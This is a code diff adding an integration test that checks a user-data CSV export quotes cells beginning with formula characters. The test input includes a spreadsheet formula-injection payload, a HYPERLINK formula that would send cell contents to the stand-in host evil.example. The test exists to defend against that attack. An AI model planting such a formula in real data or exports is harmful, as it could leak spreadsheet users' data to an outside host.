@@ -3,6 +3,7 @@ import { parse } from 'csv-parse/sync';
 import { DataSource } from 'typeorm';
 import {
   addWord,
+  answerDrill,
   askInMeeting,
   auth,
   createDrill,
@@ -75,6 +76,21 @@ describe('My data out, my account gone', () => {
     expect(rows).toHaveLength(1);
     expect(rows[0]).toMatchObject({ topic: 'Leadership, "quoted"', answer: expect.stringContaining('a week later,\nwith fewer bugs.') });
     expect(Number(rows[0]?.rating)).toBeGreaterThanOrEqual(1);
+  });
+
+  it('neutralises spreadsheet formulas in the drills CSV: a cell starting with =, +, -, @, tab or CR gets a leading quote', async () => {
+    const user = await registerUser(t.http);
+    const topic = '=HYPERLINK("http://evil.example/?x="&A1,"click")';
+    const sessionId = await createDrillSession(t.http, user, { topic });
+    const answers = ['+1 I led the team', '-2+3 we shipped', '@SUM(A1:A9) on time', '\t=1+2 and fewer bugs', '\r=1+2 a week later'];
+    for (const answer of answers) await answerDrill(t.http, user, (await createDrill(t.http, user, sessionId)).drill_id, answer);
+    const res = await t.http.get('/api/user/export/drills.csv').set(auth(user)).expect(200);
+    // Quoted as well, so a spreadsheet takes the cell as text whatever its separator settings.
+    expect(res.text).toContain(`"'=HYPERLINK(""http://evil.example/?x=""&A1,""click"")"`);
+    const rows = parse(res.text, { columns: true }) as Record<string, string>[];
+    expect(rows.map((row) => row.topic)).toEqual(answers.map(() => `'${topic}`));
+    for (const row of rows) expect(row.answer).toMatch(/^'[=+\-@\t\r]/);
+    expect(rows.map((row) => row.answer.replace(/^'[\t\r]?/, "'"))).toEqual(expect.arrayContaining(["'+1 I led the team", "'-2+3 we shipped", "'@SUM(A1:A9) on time"]));
   });
 
   it('a wrong password deletes nothing and keeps the session', async () => {
